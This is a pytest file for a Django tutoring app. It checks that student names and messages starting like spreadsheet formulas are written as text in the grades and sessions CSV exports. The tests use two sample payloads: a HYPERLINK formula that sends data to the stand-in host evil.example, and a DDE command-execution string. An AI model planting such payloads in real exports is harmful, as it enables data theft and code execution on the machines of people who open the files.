"""Spreadsheet formula injection (issue 11): a student's name or message that starts like a formula
reaches the teacher's grades CSV and the admin's sessions CSV as text, never as a formula."""

from __future__ import annotations

import csv
import io

import pytest
from django.urls import reverse

from tests import factories
from tests.clients import client_for
from tests.conftest import Personas
from tutor.classroom.models import Enrollment, User
from tutor.reports.spreadsheet import spreadsheet_cell
from tutor.tutoring.models import Message, TutoringSession

pytestmark = pytest.mark.django_db

HYPERLINK = '=HYPERLINK("http://evil.example/steal?d="&A1, "Click for your grade")'


def rows_of(response) -> list[list[str]]:
    assert response["Content-Type"].startswith("text/csv")
    return list(csv.reader(io.StringIO(response.content.decode())))


@pytest.mark.parametrize(
    ("given", "written"),
    [
        ("=1+1", "'=1+1"),
        ("+1", "'+1"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1:A9)", "'@SUM(A1:A9)"),
        ("\t=1+1", "'\t=1+1"),
        ("\r=1+1", "'\r=1+1"),
        ("x = 2", "x = 2"),
        ("", ""),
        (-3, -3),
        (1, 1),
    ],
)
def test_formula_starts_are_prefixed_and_everything_else_kept(given: object, written: object) -> None:
    assert spreadsheet_cell(given) == written


def test_grades_csv_writes_a_hyperlink_name_as_text(personas: Personas) -> None:
    mallory = factories.make_student(username="-mallory", first_name=HYPERLINK)
    Enrollment.objects.create(classroom=personas.classroom, student=mallory)
    rows = rows_of(client_for(personas.teacher).get(reverse("grades_csv", args=[personas.classroom.pk])))
    assert rows[0][:2] == ["student", "username"]
    row = next(r for r in rows if r[1] == "'-mallory")
    assert row[0] == "'" + HYPERLINK
    assert row[2:5] == ["0", "0", "0"], "marks stay numbers"
    assert next(r for r in rows if r[1] == "ada")[0] == "Ada"


def test_admin_sessions_csv_writes_formula_messages_as_text(personas: Personas) -> None:
    session = TutoringSession.objects.create(student=personas.student, problem=personas.problem)
    Message.objects.create(session=session, role="student", mode="hint", content=HYPERLINK)
    Message.objects.create(
        session=session, role="tutor", mode="hint", content="@cmd|'/C calc'!A0", final_answer="-7"
    )
    admin = User.objects.create_superuser("root", "root@example.com", "pw-for-the-admin-123")
    export = client_for(admin).post(
        "/admin/tutoring/tutoringsession/",
        {"action": "export_sessions_csv", "_selected_action": [str(session.pk)]},
    )
    contents = {row[-1]: row for row in rows_of(export)[1:]}
    assert "'" + HYPERLINK in contents
    tutor_row = contents["'@cmd|'/C calc'!A0"]
    assert tutor_row[-2] == "'-7"
    assert not any(cell.startswith(("=", "+", "-", "@")) for row in rows_of(export) for cell in row)
